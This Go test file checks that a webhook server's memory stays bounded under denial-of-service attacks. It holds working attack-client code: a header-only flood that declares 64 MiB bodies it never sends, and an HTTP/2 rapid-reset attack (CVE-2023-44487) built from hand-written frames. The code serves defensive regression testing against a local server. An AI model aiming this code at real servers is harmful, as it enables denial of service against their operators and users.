package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net/http"
	"net/http/httptrace"
	"os"
	"os/exec"
	"runtime"
	"runtime/metrics"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The attacks of issue #26 on the server, with the server's heap measured
// while they run. The attacking client runs in a child process (this test
// binary again, TestAttackClient), so that the heap this process measures
// is the server's and not the attacker's: what grows here is what the
// server allocated for the attack, plus the test's own probes (a few
// requests to /healthz and one small review).
//
// Before the bodies were read as they arrive, the server sized each body's
// buffer from the declared Content-Length: 40 such HTTP/1.1 requests took
// it to 2.5 GB. The bound asserted is the issue's: less than 150 MB.

const (
	attackEnv      = "PARAMKIT_WEBHOOK_ATTACK"
	attackAddrEnv  = "PARAMKIT_WEBHOOK_ATTACK_ADDR"
	attackDeclared = 64 << 20 // the Content-Length every attacking request declares
	maxHeapGrowth  = 150 << 20
)

// heapWatch samples the heap while an attack runs: the peak of the bytes
// in heap objects (live and not yet swept, so garbage made by the attack
// counts too) over the level after a GC at the start.
type heapWatch struct {
	base     uint64
	peak     atomic.Uint64
	stop     chan struct{}
	finished chan struct{}
}

func heapObjects() uint64 {
	s := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
	metrics.Read(s)
	return s[0].Value.Uint64()
}

// liveHeap is the heap that survives a collection now.
func liveHeap() uint64 {
	runtime.GC()
	s := []metrics.Sample{{Name: "/gc/heap/live:bytes"}}
	metrics.Read(s)
	return s[0].Value.Uint64()
}

func watchHeap() *heapWatch {
	runtime.GC()
	w := &heapWatch{base: heapObjects(), stop: make(chan struct{}), finished: make(chan struct{})}
	go func() {
		defer close(w.finished)
		tick := time.NewTicker(time.Millisecond)
		defer tick.Stop()
		for {
			if h := heapObjects(); h > w.peak.Load() {
				w.peak.Store(h)
			}
			select {
			case <-w.stop:
				return
			case <-tick.C:
			}
		}
	}()
	return w
}

// growth stops the watch and returns the peak growth.
func (w *heapWatch) growth() uint64 {
	close(w.stop)
	<-w.finished
	return w.peak.Load() - min(w.base, w.peak.Load())
}

// attacker runs TestAttackClient in a child process against addr. The
// child prints "ready" once the attack is in place (every request's
// headers read by the server, which then waits for a body that never
// comes), or "done" for an attack that ends by itself, and exits when its
// standard input closes.
type attacker struct {
	cmd   *exec.Cmd
	stdin io.WriteCloser
	out   *bufio.Scanner
}

func startAttack(t *testing.T, kind, addr string) *attacker {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^TestAttackClient$", "-test.v")
	cmd.Env = append(os.Environ(), attackEnv+"="+kind, attackAddrEnv+"="+addr)
	cmd.Stderr = os.Stderr
	stdin, err := cmd.StdinPipe()
	require.NoError(t, err)
	stdout, err := cmd.StdoutPipe()
	require.NoError(t, err)
	require.NoError(t, cmd.Start())
	a := &attacker{cmd: cmd, stdin: stdin, out: bufio.NewScanner(stdout)}
	t.Cleanup(func() {
		a.stdin.Close()
		done := make(chan struct{})
		go func() { _ = cmd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(20 * time.Second):
			_ = cmd.Process.Kill()
			<-done
		}
	})
	return a
}

// await waits for the child's line want; it fails on "error: ...".
func (a *attacker) await(t *testing.T, want string) {
	t.Helper()
	for a.out.Scan() {
		line := a.out.Text()
		switch {
		case line == want:
			return
		case strings.HasPrefix(line, "error: "):
			t.Fatalf("attacker: %s", line)
		}
	}
	t.Fatalf("attacker ended before %q", want)
}

// othersAnswered checks that callers other than the attacker are served:
// /healthz and one small review, each on a new connection.
func othersAnswered(t *testing.T, ts *testServer) {
	t.Helper()
	client := newClient(ts.Pool)
	defer client.CloseIdleConnections()
	resp, err := client.Get(ts.URL + "/healthz")
	require.NoError(t, err, "/healthz during the attack")
	resp.Body.Close()
	assert.Equal(t, 200, resp.StatusCode, "/healthz during the attack")
	resp, err = client.Post(ts.URL+"/validate", "application/json", bytes.NewReader(readGolden(t, "validate-create-valid")))
	require.NoError(t, err, "a review during the attack")
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	assert.Equal(t, 200, resp.StatusCode, "a review during the attack")
	assert.Contains(t, string(body), `"allowed":true`)
}

func TestAttackHeaderOnlyFlood(t *testing.T) {
	cases := []struct {
		name, kind string
		http2      bool
	}{
		{"HTTP/1.1, 40 requests", "h1flood", false},
		{"HTTP/2, 16 streams on one connection", "h2flood", true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ts := startServer(t, testHandler(t, nil), func(s *Server) { s.EnableHTTP2 = c.http2 })
			heap := watchHeap()
			a := startAttack(t, c.kind, strings.TrimPrefix(ts.URL, "https://"))
			a.await(t, "ready")
			live := liveHeap()
			othersAnswered(t, ts)
			growth := heap.growth()
			t.Logf("%s: heap peak growth %.1f MB, live heap during the attack %.1f MB (before: %.1f MB)",
				c.name, float64(growth)/1e6, float64(live)/1e6, float64(heap.base)/1e6)
			assert.Less(t, growth, uint64(maxHeapGrowth), "heap growth during the attack")
		})
	}
}

func TestAttackRapidReset(t *testing.T) {
	ts := startServer(t, testHandler(t, nil), func(s *Server) { s.EnableHTTP2 = true })
	heap := watchHeap()
	a := startAttack(t, "rapidreset", strings.TrimPrefix(ts.URL, "https://"))
	// /healthz answers while the streams come and go.
	var probes, failed atomic.Int64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		client := newClient(ts.Pool)
		defer client.CloseIdleConnections()
		for {
			probes.Add(1)
			resp, err := client.Get(ts.URL + "/healthz")
			if err != nil || resp.StatusCode != 200 {
				failed.Add(1)
			}
			if err == nil {
				resp.Body.Close()
			}
			select {
			case <-stop:
				return
			case <-time.After(10 * time.Millisecond):
			}
		}
	})
	a.await(t, "done")
	close(stop)
	wg.Wait()
	othersAnswered(t, ts)
	growth := heap.growth()
	t.Logf("rapid reset of 3,000 streams: heap peak growth %.1f MB (before: %.1f MB); /healthz probes %d, failed %d",
		float64(growth)/1e6, float64(heap.base)/1e6, probes.Load(), failed.Load())
	assert.Less(t, growth, uint64(maxHeapGrowth), "heap growth during the attack")
	assert.Zero(t, failed.Load(), "/healthz probes that failed during the attack")
}

func TestHTTP2IsOffByDefault(t *testing.T) {
	for _, on := range []bool{false, true} {
		ts := startServer(t, testHandler(t, nil), func(s *Server) { s.EnableHTTP2 = on })
		conn, err := tls.Dial("tcp", strings.TrimPrefix(ts.URL, "https://"), &tls.Config{RootCAs: ts.Pool, NextProtos: []string{"h2", "http/1.1"}})
		require.NoError(t, err)
		want := "http/1.1"
		if on {
			want = "h2"
		}
		assert.Equal(t, want, conn.ConnectionState().NegotiatedProtocol, "EnableHTTP2 %v", on)
		conn.Close()
	}
}

// TestAttackClient is the attacking client the tests above start in a
// child process; run by itself it skips.
func TestAttackClient(t *testing.T) {
	kind, addr := os.Getenv(attackEnv), os.Getenv(attackAddrEnv)
	if kind == "" {
		t.Skip("the attacking client of TestAttack*, run in a child process")
	}
	var err error
	switch kind {
	case "h1flood":
		err = headerOnlyFlood(addr, 40, false)
	case "h2flood":
		err = headerOnlyFlood(addr, 16, true)
	case "rapidreset":
		err = rapidReset(addr, 3000)
	default:
		err = fmt.Errorf("no attack %q", kind)
	}
	if err != nil {
		fmt.Printf("error: %v\n", err)
		return
	}
	_, _ = io.Copy(io.Discard, os.Stdin) // until the test is done measuring
}

// headerOnlyFlood sends n POSTs to /convert that declare a 64 MiB body and
// send none: over HTTP/1.1 each on its own connection, over HTTP/2 all as
// streams of one connection. Each asks for 100-continue, which the server
// sends when its handler starts reading the body: so once every request
// has it, the server has done whatever it does with the declared length.
func headerOnlyFlood(addr string, n int, h2 bool) error {
	tr := &http.Transport{
		TLSClientConfig:       &tls.Config{InsecureSkipVerify: true},
		ExpectContinueTimeout: time.Minute,
		MaxConnsPerHost:       n,
		Protocols:             new(http.Protocols),
	}
	if h2 {
		tr.Protocols.SetHTTP2(true)
		tr.MaxConnsPerHost = 1
	} else {
		tr.Protocols.SetHTTP1(true)
	}
	defer tr.CloseIdleConnections()
	var continued sync.WaitGroup
	continued.Add(n)
	errc := make(chan error, n)
	var pipes []*io.PipeWriter
	for range n {
		pr, pw := io.Pipe()
		pipes = append(pipes, pw)
		var once sync.Once
		ctx := httptrace.WithClientTrace(context.Background(), &httptrace.ClientTrace{
			Got100Continue: func() { once.Do(continued.Done) },
		})
		req, err := http.NewRequestWithContext(ctx, "POST", "https://"+addr+"/convert", pr)
		if err != nil {
			return err
		}
		req.ContentLength = attackDeclared
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Expect", "100-continue")
		go func() {
			resp, err := tr.RoundTrip(req)
			if err == nil {
				err = fmt.Errorf("answered %s before the body was sent", resp.Status)
				resp.Body.Close()
			}
			once.Do(func() { errc <- err; continued.Done() })
		}()
	}
	continued.Wait()
	defer func() {
		for _, pw := range pipes {
			pw.CloseWithError(io.ErrClosedPipe)
		}
	}()
	select {
	case err := <-errc:
		return err
	default:
	}
	fmt.Println("ready")
	_, _ = io.Copy(io.Discard, os.Stdin)
	return nil
}

// rapidReset opens n HTTP/2 streams, each a POST to /convert declaring a
// 64 MiB body, and resets each right after its headers (CVE-2023-44487).
// When the server ends a connection for too many resets it goes on with
// a new one. It writes the frames by hand: no HTTP/2 client resets
// streams that fast.
func rapidReset(addr string, n int) error {
	var hdr bytes.Buffer
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":path", "/convert"}, {":authority", addr},
		{"content-type", "application/json"}, {"content-length", strconv.Itoa(attackDeclared)},
	} {
		hdr.WriteByte(0) // literal header field without indexing, new name
		hdr.WriteByte(byte(len(f[0])))
		hdr.WriteString(f[0])
		hdr.WriteByte(byte(len(f[1])))
		hdr.WriteString(f[1])
	}
	frame := func(buf *bytes.Buffer, typ, flags byte, stream uint32, payload []byte) {
		var h [9]byte
		h[0], h[1], h[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
		h[3], h[4] = typ, flags
		binary.BigEndian.PutUint32(h[5:], stream)
		buf.Write(h[:])
		buf.Write(payload)
	}
	const (
		typeHeaders, typeRSTStream, typeSettings = 1, 3, 4
		flagEndHeaders, flagAck                  = 4, 1
		codeCancel                               = 8
	)
	sent, conns := 0, 0
	for sent < n {
		conns++
		if conns > 100 {
			return fmt.Errorf("gave up after %d connections, %d streams", conns-1, sent)
		}
		conn, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		if err != nil {
			return err
		}
		if p := conn.ConnectionState().NegotiatedProtocol; p != "h2" {
			conn.Close()
			return fmt.Errorf("the server offers %q, not h2", p)
		}
		go func() { _, _ = io.Copy(io.Discard, conn) }() // the server's frames
		var buf bytes.Buffer
		buf.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
		frame(&buf, typeSettings, 0, 0, nil)
		frame(&buf, typeSettings, flagAck, 0, nil)
		rst := binary.BigEndian.AppendUint32(nil, codeCancel)
		pending := 0
		for stream := uint32(1); sent+pending < n; stream += 2 {
			frame(&buf, typeHeaders, flagEndHeaders, stream, hdr.Bytes())
			frame(&buf, typeRSTStream, 0, stream, rst)
			pending++
			if buf.Len() > 32<<10 || sent+pending == n {
				if _, err := conn.Write(buf.Bytes()); err != nil {
					break // the server ended the connection: a new one
				}
				buf.Reset()
				sent, pending = sent+pending, 0
			}
		}
		conn.Close()
	}
	fmt.Println("done")
	return nil
}
